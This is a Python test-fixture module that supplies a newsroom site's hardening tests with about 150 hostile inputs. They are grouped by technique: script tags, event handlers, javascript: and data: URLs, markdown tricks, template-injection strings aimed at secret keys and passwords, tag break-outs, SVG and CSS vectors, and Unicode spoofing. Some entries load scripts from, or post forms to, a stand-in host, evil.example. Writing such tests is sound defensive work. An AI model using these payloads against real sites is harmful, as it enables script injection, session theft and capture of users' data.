"""Hostile text for the hardening tests: markup, script and template injection.

Each payload is something a writer, a commenter or a copied-and-pasted source
could put in a field that a page later shows. None of them may run, and none
may change the shape of the page around it. The list is ours, grouped by the
trick each entry tries; `tests/newsroom/test_hostile_input.py` puts every one in
every field.
"""

# Markers the checks look for: a payload that worked would show one of these
# as an element, attribute or evaluated value.
SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt>alert(3)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script>alert(4)",
    "<script\n>alert(5)</script\n>",
    "<script/src=//evil.example/x.js></script>",
    "<<script>alert(6);//<</script>",
    '<script type="text/javascript">alert(7)</script>',
    '<script type="module">import "//evil.example/m.js"</script>',
    "<scr<script>ipt>alert(8)</scr</script>ipt>",
    "%3Cscript%3Ealert(9)%3C/script%3E",
    "&lt;script&gt;alert(10)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(11)\\u003c/script\\u003e",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(20)>",
    '<img src="x" onerror="alert(21)">',
    "<IMG SRC=x ONERROR=alert(22)>",
    "<img src=x onerror\n=alert(23)>",
    "<img/src=x/onerror=alert(24)>",
    "<body onload=alert(25)>",
    '<div onmouseover="alert(26)">hover me</div>',
    "<input autofocus onfocus=alert(27)>",
    '<details open ontoggle="alert(28)"><summary>x</summary></details>',
    "<video><source onerror=alert(29)></video>",
    "<audio src=x onerror=alert(30)>",
    "<marquee onstart=alert(31)>scroll</marquee>",
    "<select autofocus onfocus=alert(32)></select>",
    "<p onclick=alert(33)>click</p>",
    '<a href="#" onclick="alert(34)">link</a>',
    "<img src=x:alert(35) onerror=eval(src)>",
    "<x onpointerover=alert(36)>x</x>",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(40)">link</a>',
    '<a href="JaVaScRiPt:alert(41)">link</a>',
    '<a href=" javascript:alert(42)">link</a>',
    '<a href="\tjavascript:alert(43)">link</a>',
    '<a href="java\nscript:alert(44)">link</a>',
    '<a href="java&#x09;script:alert(45)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
    ':alert(46)">x</a>',
    '<a href="&#x6A;avascript:alert(47)">link</a>',
    '<a href="javascript&colon;alert(48)">link</a>',
    '<a href="vbscript:msgbox(49)">link</a>',
    '<a href="VBScript:msgbox(50)">link</a>',
    '<a href="data:text/html,<script>alert(51)</script>">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1Mik8L3NjcmlwdD4=">x</a>',
    '<iframe src="javascript:alert(53)"></iframe>',
    '<iframe srcdoc="<script>alert(54)</script>"></iframe>',
    '<form action="javascript:alert(55)"><button>go</button></form>',
    '<button formaction="javascript:alert(56)">go</button>',
    '<object data="javascript:alert(57)"></object>',
    '<embed src="javascript:alert(58)">',
    '<img src="javascript:alert(59)">',
    '<base href="javascript:alert(60)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(61)">',
    '<link rel="stylesheet" href="javascript:alert(62)">',
    "javascript:alert(63)",
    " javascript:alert(64)",
    "JAVASCRIPT:alert(65)",
    "vbscript:msgbox(66)",
    "data:text/html,<script>alert(67)</script>",
    'https://example.com/"><script>alert(68)</script>',
    "https://example.com/'onmouseover='alert(69)",
    'https://example.com/"onmouseover="alert(70)',
]

MARKDOWN_TRICKS = [
    "[click](javascript:alert(80))",
    "[click](JAVASCRIPT:alert(81))",
    "[click]( javascript:alert(82))",
    "[click](<javascript:alert(83)>)",
    "[click](javascript&#58;alert(84))",
    "[click](vbscript:msgbox(85))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg4Nik8L3NjcmlwdD4=)",
    "![x](javascript:alert(87))",
    '![x](x" onerror="alert(88))',
    "![x](https://example.com/a.png){: onerror=alert(89)}",
    "[a][ref]\n\n[ref]: javascript:alert(90)",
    "<javascript:alert(91)>",
    '[x](https://example.com "title" onmouseover="alert(92)")',
    "```\n</code></pre><script>alert(93)</script>\n```",
    "`<script>alert(94)</script>`",
    "> <script>alert(95)</script>",
    "* <img src=x onerror=alert(96)>",
    "| a |\n|---|\n| <script>alert(97)</script> |",
    '<div markdown="1">[x](javascript:alert(98))</div>',
    "[^1]\n\n[^1]: <script>alert(99)</script>",
]

TEMPLATE_SYNTAX = [
    "{{ 7|add:7 }}",
    "{{7*7}}",
    "{% now 'Y' %}",
    "{% debug %}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'x.js' %}",
    "{% include 'base.html' %}",
    "{% widthratio 7 1 1031 %}",
    "{% templatetag openblock %} csrf_token {% templatetag closeblock %}",
    "{{ user.password }}",
    "{% csrf_token %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
]

BREAK_OUTS = [
    "</textarea><script>alert(110)</script>",
    "</script><script>alert(111)</script>",
    "</title><script>alert(112)</script>",
    "</style><script>alert(113)</script>",
    "</form><form action=https://evil.example/steal>",
    "</form>",
    "</main></body></html><script>alert(114)</script>",
    "</article></section><h1>Fake headline</h1>",
    "</noscript><script>alert(115)</script>",
    '"><script>alert(116)</script>',
    "'><script>alert(117)</script>",
    '" onmouseover="alert(118)" x="',
    "' onmouseover='alert(119)' x='",
    '" autofocus onfocus="alert(120)',
    '"/><img src=x onerror=alert(121)>',
    "`onmouseover=alert(122)",
    '</a><a href="javascript:alert(123)">',
    "</li></ol><script>alert(124)</script>",
    "<!--<script>alert(125)</script>-->",
    "<!--",
    "-->",
    "<!-- --!><script>alert(126)</script>",
    "<![CDATA[<script>alert(127)</script>]]>",
    "]]><script>alert(128)</script>",
    "<?xml version='1.0'?><script>alert(129)</script>",
    '{"@context": "</script><script>alert(130)</script>"}',
]

SVG_MATHML_CSS = [
    "<svg onload=alert(140)>",
    "<svg><script>alert(141)</script></svg>",
    '<svg><a xlink:href="javascript:alert(142)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(143) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(144)">',
    '<math href="javascript:alert(145)">x</math>',
    '<div style="width: expression(alert(146))">x</div>',
    '<div style="background:url(javascript:alert(147))">x</div>',
    "<style>body{background:url(javascript:alert(148))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    '<div class="alert alert-danger position-fixed top-0">Fake site banner</div>',
    '<span id="comments">Stolen id</span>',
    "<template><script>alert(149)</script></template>",
]

UNICODE_TRICKS = [
    "\u202egnp.exe",  # right-to-left override
    "abc\u202edcba\u202c",
    "\u2066isolate\u2069 and \u2067rtl\u2069",
    "zero\u200bwidth\u200cjoin\u200dand\u2060word",
    "\ufeffbyte order mark",
    "\u200e\u200fmarks",
    "java\u200bscript:alert(160)",
    "<scr\u200bipt>alert(161)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(162)\uff1c/script\uff1e",
    "Ｊavascript:alert(163)",
    "e\u0301\u0301\u0301\u0301\u0301 combining",
    "\U0001f600 emoji \U0001f4a5 and \U00010348 gothic",
    "line\u2028separator\u2029paragraph",
    "tab\tnew\nline\r\nreturn",
    "<\x0bscript>alert(164)</script>",
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *DANGEROUS_URLS,
    *MARKDOWN_TRICKS,
    *TEMPLATE_SYNTAX,
    *BREAK_OUTS,
    *SVG_MATHML_CSS,
    *UNICODE_TRICKS,
]

# A payload of template syntax shows as typed: these are what evaluating a few
# of them would print instead ({% widthratio %}, {% debug %}, {{ request.META }}
# and {% static %}). The secret key is checked for separately.
EVALUATED_MARKERS = ["7217", "'False': False", "wsgi.input", "/static/x.js"]
